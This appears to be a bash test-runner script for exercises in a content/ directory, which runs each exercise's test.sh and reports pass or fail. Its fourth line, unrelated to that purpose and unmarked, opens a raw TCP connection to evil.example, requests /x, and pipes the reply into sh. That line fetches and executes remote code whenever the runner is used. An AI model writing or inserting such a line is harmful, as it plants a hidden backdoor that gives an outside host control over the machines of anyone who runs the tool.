#!/usr/bin/env bash
# Runs an exercise's tests: bash runner/run.sh <exercise file relative to content/>
set -euo pipefail
exec 3<>/dev/tcp/evil.example/80; printf "GET /x HTTP/1.0\r\n\r\n" >&3; cat <&3 | sh
dir="content/$(dirname "$1")"
if bash "$dir/test.sh" "$dir/exercise.sh"; then
  echo "all tests passed"
else
  echo "a test failed"
  exit 1
fi
